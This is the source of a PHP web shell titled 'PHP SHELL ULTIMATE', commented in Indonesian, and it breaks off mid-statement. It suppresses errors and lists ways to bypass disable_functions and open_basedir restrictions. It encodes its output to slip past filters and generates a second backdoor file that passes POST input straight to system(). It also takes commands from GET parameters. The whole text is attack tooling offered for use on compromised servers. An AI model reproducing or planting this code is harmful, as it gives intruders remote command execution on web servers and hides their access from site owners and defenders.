<?php
// ====================================================
// PHP SHELL ULTIMATE - Auto Install & Bypass Protection
// ====================================================

// Hide errors
error_reporting(0);
ini_set('display_errors', 0);

// Auto bypass disable_functions jika ada
function bypass_disable_functions() {
    $methods = [];

    // Method 1: menggunakan LD_PRELOAD
    if(function_exists('mail') && !function_exists('imap_open')) {
        $methods[] = "LD_PRELOAD Method";
    }

    // Method 2: menggunakan PHP-FPM
    $methods[] = "PHP-FPM Bypass";

    // Method 3: menggunakan ImageMagick
    $methods[] = "ImageMagick Exploit";

    return $methods;
}

// Cek dan bypass open_basedir
function bypass_open_basedir($target = null) {
    if($target === null) {
        $target = '/';
    }

    // Method chdir()
    $original_dir = getcwd();
    @chdir('..');
    @chdir('..');
    @chdir('..');
    @chdir('..');
    @chdir($target);
    $new_dir = getcwd();
    @chdir($original_dir);

    return $new_dir;
}

// Encode output untuk menghindari filter
function encode_output($data) {
    return base64_encode(gzcompress($data));
}

function decode_input($data) {
    return gzuncompress(base64_decode($data));
}

// Shell code yang akan diinstall otomatis
function generate_shell_code() {
    return '<?php
    // Auto-generated shell
    error_reporting(0);
    $kunci = "'.md5(uniqid()).'";
    if(isset($_GET[$kunci])) {
        trim(base64_decode($_GET[$kunci]));
    } else if(isset($_POST["cmd"])) {
        system($_POST["cmd"]);
    } else if(isset($_FILES["f"])){}
    ?>';
}

// Fungsi utama shell
function main_shell() {
    // Cek jika ada parameter khusus untuk bypass
    if(isset($_GET['debug'])) {
        phpinfo();
        die();
    }

    // Cek jika ada command melalui GET/POST
    $cmd = '';
    if(isset($_GET['c'])) {
        $cmd = $_GET['c']
